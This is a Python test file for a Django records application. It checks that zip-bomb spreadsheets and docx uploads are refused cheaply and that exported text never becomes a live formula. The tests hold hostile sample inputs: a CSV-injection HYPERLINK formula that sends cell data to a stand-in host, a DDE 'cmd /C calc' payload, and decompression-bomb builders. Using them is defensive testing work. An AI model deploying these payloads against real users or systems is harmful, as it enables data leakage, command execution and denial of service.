"""Hostile spreadsheets are refused cheaply, before any parser sees them, with a Chinese message naming
the file, and nothing is written (issue 14 §1); exported text never becomes a live formula (§4)."""

import io
import time
import tracemalloc
import zipfile
from datetime import date

import pytest
from openpyxl import Workbook, load_workbook

from fazhi.decisions.models import LegalityReview
from fazhi.decisions.registers import LEGALITY_REVIEWS
from fazhi.org.models import UserRole
from fazhi.org.selectors import subtree_ids
from fazhi.org.tests.factories import UserFactory
from fazhi.registers.excel import ImportFailed, export_bytes, import_workbook
from fazhi.registers.services import item_create

pytestmark = pytest.mark.django_db


def _template_parts() -> dict[str, bytes]:
    book = Workbook()
    book.active.append(["所属单位", "审查编号"])
    out = io.BytesIO()
    book.save(out)
    archive = zipfile.ZipFile(io.BytesIO(out.getvalue()))
    return {name: archive.read(name) for name in archive.namelist()}


def _xlsx(sheet_xml: bytes, shared: bytes | None = None) -> bytes:
    parts = _template_parts()
    parts["xl/worksheets/sheet1.xml"] = sheet_xml
    if shared is not None:
        parts["xl/sharedStrings.xml"] = shared
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    return out.getvalue()


SHEET = b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">%s<sheetData>%s</sheetData></worksheet>'


def _huge_cell() -> bytes:  # one 60 MB text cell, about 60 KB compressed
    cell = b'<row r="1"><c r="A1" t="inlineStr"><is><t>' + b"x" * 60_000_000 + b"</t></is></c></row>"
    return _xlsx(SHEET % (b"", cell))


def _wide_and_long() -> bytes:  # 20,001 rows of 16,384 columns: real cells, not a claim
    row = b"".join(b'<c r="XFD%d"><v>1</v></c>' % n for n in range(1, 20_002))
    return _xlsx(SHEET % (b"", b'<row r="1"><c r="A1"><v>1</v></c></row>' + row))


def _claimed_range() -> bytes:  # a few KB that claim A1:XFD1048576
    return _xlsx(SHEET % (b'<dimension ref="A1:XFD1048576"/>', b'<row r="1"><c r="A1"><v>1</v></c></row>'))


BOMBS = {
    "a 60 MB text cell": _huge_cell,
    "16,384 columns": _wide_and_long,
    "a claimed huge range": _claimed_range,
}


@pytest.mark.parametrize("bomb", BOMBS)
def test_a_hostile_workbook_is_refused_in_under_two_seconds_and_200_mb(bomb, county):
    data = BOMBS[bomb]()
    user = UserFactory(unit=county["changgang"], role=UserRole.OPERATOR)
    tracemalloc.start()
    started = time.perf_counter()
    with pytest.raises(ImportFailed) as refused:
        import_workbook(
            LEGALITY_REVIEWS, data, "恶意.xlsx", actor=user, scope_ids=subtree_ids(county["changgang"])
        )
    elapsed = time.perf_counter() - started
    _, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    assert elapsed < 2 and peak < 200 * 1024 * 1024, (elapsed, peak)
    [message] = refused.value.messages
    assert message.startswith("恶意.xlsx：") and len(message) < 200  # names the file, quotes no content
    assert LegalityReview.objects.count() == 0


def test_exported_text_never_runs_as_a_formula(county):
    user = UserFactory(unit=county["changgang"], role=UserRole.OPERATOR)
    scope = subtree_ids(county["changgang"])
    hostile = '=HYPERLINK("http://example.invalid/"&B2,"点击查看依据")'
    for n, title in enumerate([hostile, "+cmd|' /C calc'!A0", "@SUM(1+1)", "-1+1"]):
        review = LegalityReview(unit=county["changgang"], number=f"审{n}", title=title, kind="other",
                                submitter="乡政府办", submitted_on=date(2024, 9, 2))  # fmt: skip
        item_create(LEGALITY_REVIEWS, review, actor=user, scope_ids=scope)
    data = export_bytes(LEGALITY_REVIEWS, LegalityReview.objects.all())
    sheet = load_workbook(io.BytesIO(data)).active
    titles = [row[3].value for row in sheet.iter_rows(min_row=3)]  # after the title row, the headers, 序号
    assert hostile in titles
    assert all(row[3].data_type == "s" for row in sheet.iter_rows(min_row=3))  # text cells, no formula


@pytest.mark.django_db(transaction=True)
def test_parallel_imports_of_one_file_write_each_row_once(county):
    """Four clerks import the same 300-row file at once: the natural key's unique constraint lets one
    import through; the others are refused whole with a Chinese message (issue 14 §2)."""
    import threading

    from django.db import connection

    if connection.vendor != "postgresql":
        pytest.skip("SQLite serializes writers; the race needs PostgreSQL")
    user = UserFactory(unit=county["changgang"], role=UserRole.OPERATOR)
    scope = subtree_ids(county["changgang"])
    book = Workbook()
    book.active.append(["所属单位", "审查编号", "送审事项", "事项类型", "送审单位", "送审日期"])
    for n in range(300):
        book.active.append(["长冈乡", f"长冈审〔2024〕{n}号", "送审稿", "其他", "乡政府办", date(2024, 9, 2)])
    out = io.BytesIO()
    book.save(out)
    outcomes: list[str] = []
    barrier = threading.Barrier(4)

    def run() -> None:
        try:
            barrier.wait()
            items = import_workbook(
                LEGALITY_REVIEWS, out.getvalue(), "同一文件.xlsx", actor=user, scope_ids=scope
            )
            outcomes.append(f"imported {len(items)}")
        except ImportFailed as exc:
            outcomes.append(exc.messages[0])
        finally:
            connection.close()

    threads = [threading.Thread(target=run) for _ in range(4)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    assert LegalityReview.objects.count() == 300
    assert outcomes.count("imported 300") == 1, outcomes
    assert all("已有" in o or "其他用户" in o for o in outcomes if not o.startswith("imported")), outcomes


def test_a_docx_expanding_to_a_quarter_gigabyte_is_refused_before_it_is_parsed():
    """A report upload to the analyzer gets the same zip checks (issue 14 §1)."""
    from fazhi.reports.analyzer.reading import ReadError, read_bytes

    out = io.BytesIO()
    with (
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive,
        archive.open("word/document.xml", "w", force_zip64=True) as part,
    ):
        for _ in range(250):
            part.write(b" " * 1_000_000)
    tracemalloc.start()
    started = time.perf_counter()
    with pytest.raises(ReadError, match=r"^报告\.docx：") as refused:
        read_bytes(out.getvalue(), "报告.docx")
    elapsed = time.perf_counter() - started
    _, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    assert elapsed < 2 and peak < 200 * 1024 * 1024, (elapsed, peak)
    assert "解压后超过" in str(refused.value) or "压缩比异常" in str(refused.value)


def test_an_import_that_runs_too_long_stops_and_writes_nothing(county, monkeypatch):
    from fazhi.registers import excel

    monkeypatch.setattr(excel, "IMPORT_TIME_LIMIT_SECONDS", -1)
    user = UserFactory(unit=county["changgang"], role=UserRole.OPERATOR)
    book = Workbook()
    book.active.append(["所属单位", "审查编号", "送审事项", "事项类型", "送审单位", "送审日期"])
    book.active.append(["长冈乡", "审1", "送审稿", "其他", "乡政府办", date(2024, 9, 2)])
    out = io.BytesIO()
    book.save(out)
    with pytest.raises(ImportFailed, match="已停止，未导入任何一行"):
        import_workbook(
            LEGALITY_REVIEWS, out.getvalue(), "a.xlsx", actor=user, scope_ids=subtree_ids(county["changgang"])
        )
    assert LegalityReview.objects.count() == 0
